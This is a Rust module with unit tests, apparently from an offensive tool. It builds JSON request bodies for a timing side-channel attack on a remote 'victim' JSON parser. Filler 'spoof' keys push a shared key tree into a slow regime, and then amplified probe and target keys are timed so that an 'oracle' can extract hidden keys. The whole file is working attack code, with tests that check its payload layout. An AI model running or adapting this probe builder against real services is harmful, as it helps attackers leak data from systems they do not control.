//! Probe builder
//!
//! Turns keys into request bodies. A body is a single-line JSON array:
//!
//! ```text
//! [{"@":0,"<spoof0>":0}, ..., {"@":0,"<probe>":0,"<t0>":0,...,"<tN>":0}, ...]
//!  \______ spoof segment ______/ \________ repeated `amplification` times ___/
//! ```
//!
//! Every object starts with the same anchor key so the victim walks one shared
//! transition tree. The spoof objects overflow that tree into its slow regime
//! before the timed {probe + targets} objects are parsed.

use std::sync::Arc;

use crate::config::ProbeConfig;
use crate::error::{ProbeError, Result};
use crate::oracle::{KeyAlphabet, KeyGenerator, KeySet};

/// Serialized request payload, cheap to clone and reuse across trials
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProbeBody {
    text: Arc<str>,
    candidate: String,
}

impl ProbeBody {
    pub fn as_str(&self) -> &str {
        &self.text
    }

    /// Shared handle to the body text
    pub fn shared(&self) -> Arc<str> {
        Arc::clone(&self.text)
    }

    /// Probe key layered into this body
    pub fn candidate(&self) -> &str {
        &self.candidate
    }

    pub fn len(&self) -> usize {
        self.text.len()
    }

    pub fn is_empty(&self) -> bool {
        self.text.is_empty()
    }
}

/// Layout policy for bodies
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BodyLayout {
    pub anchor_key: String,
    /// Re-emit the spoof segment every N repetitions; 0 disables it
    pub respoof_interval: usize,
}

impl Default for BodyLayout {
    fn default() -> Self {
        let probe = ProbeConfig::default();
        Self {
            anchor_key: probe.anchor_key,
            respoof_interval: probe.respoof_interval,
        }
    }
}

fn quoted(key: &str) -> String {
    serde_json::Value::String(key.to_owned()).to_string()
}

/// Build one probe body
///
/// Spoof objects come first, then `amplification` copies of the candidate
/// followed by every target key. With a non-zero re-spoof interval the spoof
/// segment is repeated before every chunk of that many copies after the first.
pub fn build_probe_body(
    spoof: &KeySet,
    targets: &KeySet,
    candidate: &str,
    amplification: usize,
    layout: &BodyLayout,
) -> Result<ProbeBody> {
    Ok(BodyTemplate::new(spoof, targets, amplification, layout)?.render(candidate))
}

/// Everything in a body except the candidate, serialized once
///
/// Rendering a body only concatenates these segments.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BodyTemplate {
    /// Spoof objects joined by commas, empty without spoof keys
    spoof_segment: String,
    /// `{"<anchor>":0,`
    object_head: String,
    /// `:0,"<t0>":0,...}`
    object_tail: String,
    amplification: usize,
    respoof_interval: usize,
}

impl BodyTemplate {
    pub fn new(
        spoof: &KeySet,
        targets: &KeySet,
        amplification: usize,
        layout: &BodyLayout,
    ) -> Result<Self> {
        if amplification == 0 {
            return Err(ProbeError::InvalidProbeSpec(
                "amplification must be >= 1".to_string(),
            ));
        }
        if targets.is_empty() {
            return Err(ProbeError::InvalidProbeSpec(
                "target set must not be empty".to_string(),
            ));
        }

        let anchor = quoted(&layout.anchor_key);

        let spoof_objects: Vec<String> = spoof
            .keys()
            .iter()
            .map(|key| format!("{{{}:0,{}:0}}", anchor, quoted(key)))
            .collect();

        let postfix: Vec<String> = targets
            .keys()
            .iter()
            .map(|key| format!("{}:0", quoted(key)))
            .collect();

        Ok(Self {
            spoof_segment: spoof_objects.join(","),
            object_head: format!("{{{}:0,", anchor),
            object_tail: format!(":0,{}}}", postfix.join(",")),
            amplification,
            respoof_interval: layout.respoof_interval,
        })
    }

    fn respoofs(&self) -> usize {
        match self.respoof_interval {
            0 => 0,
            n => (self.amplification - 1) / n,
        }
    }

    /// Body for one candidate key
    pub fn render(&self, candidate: &str) -> ProbeBody {
        let probe_object = format!("{}{}{}", self.object_head, quoted(candidate), self.object_tail);

        let mut text = String::with_capacity(
            2 + (self.spoof_segment.len() + 1) * (self.respoofs() + 1)
                + (probe_object.len() + 1) * self.amplification,
        );

        text.push('[');
        let mut first = true;
        let mut push = |text: &mut String, segment: &str| {
            if segment.is_empty() {
                return;
            }
            if !first {
                text.push(',');
            }
            first = false;
            text.push_str(segment);
        };

        push(&mut text, &self.spoof_segment);
        for i in 0..self.amplification {
            if self.respoof_interval > 0 && i > 0 && i % self.respoof_interval == 0 {
                push(&mut text, &self.spoof_segment);
            }
            push(&mut text, &probe_object);
        }
        text.push(']');

        ProbeBody {
            text: Arc::from(text),
            candidate: candidate.to_string(),
        }
    }
}

/// Key source and body factory for one run
#[derive(Debug, Clone)]
pub struct ProbeBuilder {
    seed: u32,
    generator: KeyGenerator,
    layout: BodyLayout,
}

impl ProbeBuilder {
    pub fn new(seed: u32, generator: KeyGenerator, layout: BodyLayout) -> Self {
        Self {
            seed,
            generator,
            layout,
        }
    }

    /// Builder starting at a random key offset so concurrent runs don't collide
    ///
    /// Indices below `reserved` (the target keys) are never generated.
    pub fn randomized(seed: u32, alphabet: KeyAlphabet, reserved: u64, layout: BodyLayout) -> Self {
        let generator = KeyGenerator::random(alphabet, reserved, &mut rand::thread_rng());
        tracing::debug!(offset = generator.offset(), "probe key generator seeded");
        Self::new(seed, generator, layout)
    }

    pub fn layout(&self) -> &BodyLayout {
        &self.layout
    }

    pub fn generator_mut(&mut self) -> &mut KeyGenerator {
        &mut self.generator
    }

    /// Fresh keys for one extraction round
    pub fn fresh_keys(&mut self, count: usize) -> Vec<String> {
        self.generator.take_keys(count)
    }

    /// Disposable filler keys, hashed and sorted like any other key set
    pub fn build_spoof(&mut self, count: usize) -> KeySet {
        KeySet::new(self.seed, self.generator.take_keys(count))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oracle::key_at;

    fn set(keys: &[&str]) -> KeySet {
        KeySet::new(1, keys.iter().map(|k| k.to_string()).collect())
    }

    fn no_respoof() -> BodyLayout {
        BodyLayout {
            respoof_interval: 0,
            ..BodyLayout::default()
        }
    }

    #[test]
    fn test_body_layout_exact() {
        let spoof = set(&["s000"]);
        let targets = set(&["t000"]);
        let body = build_probe_body(&spoof, &targets, "p000", 2, &no_respoof()).unwrap();
        assert_eq!(
            body.as_str(),
            r#"[{"@":0,"s000":0},{"@":0,"p000":0,"t000":0},{"@":0,"p000":0,"t000":0}]"#
        );
        assert_eq!(body.candidate(), "p000");
    }

    #[test]
    fn test_body_without_spoof() {
        let body =
            build_probe_body(&set(&[]), &set(&["t000"]), "p000", 1, &no_respoof()).unwrap();
        assert_eq!(body.as_str(), r#"[{"@":0,"p000":0,"t000":0}]"#);
    }

    #[test]
    fn test_targets_follow_hash_order() {
        let targets = KeySet::new(1, (0..5).map(key_at).collect());
        let body =
            build_probe_body(&set(&[]), &targets, "zzzz", 1, &no_respoof()).unwrap();
        let value: serde_json::Value = serde_json::from_str(body.as_str()).unwrap();
        let object = value[0].as_object().unwrap();
        assert_eq!(object.len(), 7);
        assert!(object.contains_key("zzzz"));
        for key in targets.keys() {
            assert!(object.contains_key(key));
        }
        // target keys appear in ascending hash order after the candidate
        let mut last = 0;
        for key in targets.keys() {
            let at = body.as_str().find(&format!("\"{}\"", key)).unwrap();
            assert!(at > last);
            last = at;
        }
    }

    #[test]
    fn test_zero_amplification_rejected() {
        let err = build_probe_body(&set(&[]), &set(&["t000"]), "p000", 0, &no_respoof())
            .unwrap_err();
        assert!(matches!(err, ProbeError::InvalidProbeSpec(_)));
    }

    #[test]
    fn test_empty_targets_rejected() {
        let err = build_probe_body(&set(&["s000"]), &set(&[]), "p000", 4, &no_respoof())
            .unwrap_err();
        assert!(matches!(err, ProbeError::InvalidProbeSpec(_)));
    }

    #[test]
    fn test_respoof_interval() {
        let layout = BodyLayout {
            respoof_interval: 2,
            ..BodyLayout::default()
        };
        let body = build_probe_body(&set(&["s000"]), &set(&["t000"]), "p000", 5, &layout)
            .unwrap();
        // spoof, p, p, spoof, p, p, spoof, p
        assert_eq!(body.as_str().matches("\"s000\"").count(), 3);
        assert_eq!(body.as_str().matches("\"p000\"").count(), 5);

        let value: serde_json::Value = serde_json::from_str(body.as_str()).unwrap();
        let objects = value.as_array().unwrap();
        assert_eq!(objects.len(), 8);
        assert!(objects[3].get("s000").is_some());
        assert!(objects[6].get("s000").is_some());
    }

    #[test]
    fn test_default_interval_no_respoof_below_chunk() {
        let body = build_probe_body(
            &set(&["s000"]),
            &set(&["t000"]),
            "p000",
            4096,
            &BodyLayout::default(),
        )
        .unwrap();
        assert_eq!(body.as_str().matches("\"s000\"").count(), 1);
    }

    #[test]
    fn test_keys_are_escaped() {
        let body = build_probe_body(&set(&[]), &set(&["t\"0\n"]), "p\\1", 1, &no_respoof())
            .unwrap();
        assert!(!body.as_str().contains('\n'));
        let value: serde_json::Value = serde_json::from_str(body.as_str()).unwrap();
        assert!(value[0].get("t\"0\n").is_some());
        assert!(value[0].get("p\\1").is_some());
    }

    #[test]
    fn test_custom_anchor_key() {
        let layout = BodyLayout {
            anchor_key: "__proto_a".to_string(),
            respoof_interval: 0,
        };
        let body = build_probe_body(&set(&[]), &set(&["t000"]), "p000", 1, &layout).unwrap();
        assert!(body.as_str().starts_with(r#"[{"__proto_a":0,"#));
    }

    #[test]
    fn test_builder_spoof_and_probe_keys_disjoint() {
        let mut builder = ProbeBuilder::new(
            1,
            KeyGenerator::new(KeyAlphabet::IDENTIFIER, 1000),
            BodyLayout::default(),
        );
        let spoof = builder.build_spoof(1536);
        let probes = builder.fresh_keys(2093);
        assert_eq!(spoof.len(), 1536);
        for probe in &probes {
            assert!(!spoof.keys().contains(probe));
        }
    }

    #[test]
    fn test_template_renders_same_body() {
        let spoof = set(&["s000", "s001"]);
        let targets = set(&["t000", "t001"]);
        let layout = BodyLayout {
            respoof_interval: 3,
            ..BodyLayout::default()
        };
        let template = BodyTemplate::new(&spoof, &targets, 7, &layout).unwrap();

        let a = template.render("p000");
        let b = template.render("p001");
        assert_eq!(a.candidate(), "p000");
        assert_eq!(a.as_str().replace("p000", "p001"), b.as_str());

        let value: serde_json::Value = serde_json::from_str(a.as_str()).unwrap();
        // 2 spoof objects, re-emitted twice, plus 7 probe objects
        assert_eq!(value.as_array().unwrap().len(), 2 * 3 + 7);
    }

    #[test]
    fn test_template_rejects_bad_input() {
        assert!(BodyTemplate::new(&set(&[]), &set(&["t000"]), 0, &no_respoof()).is_err());
        assert!(BodyTemplate::new(&set(&["s000"]), &set(&[]), 1, &no_respoof()).is_err());
    }

    #[test]
    fn test_randomized_builder_skips_reserved_keys() {
        let targets: Vec<String> = (0..17).map(key_at).collect();
        for _ in 0..50 {
            let mut builder =
                ProbeBuilder::randomized(1, KeyAlphabet::IDENTIFIER, 17, BodyLayout::default());
            assert!(builder.generator_mut().offset() >= 17);
            for key in builder.fresh_keys(4) {
                assert!(!targets.contains(&key));
            }
        }
    }

    #[test]
    fn test_body_shared_handle() {
        let body =
            build_probe_body(&set(&[]), &set(&["t000"]), "p000", 3, &no_respoof()).unwrap();
        let clone = body.clone();
        assert!(Arc::ptr_eq(&body.shared(), &clone.shared()));
        assert_eq!(body.len(), body.as_str().len());
    }
}
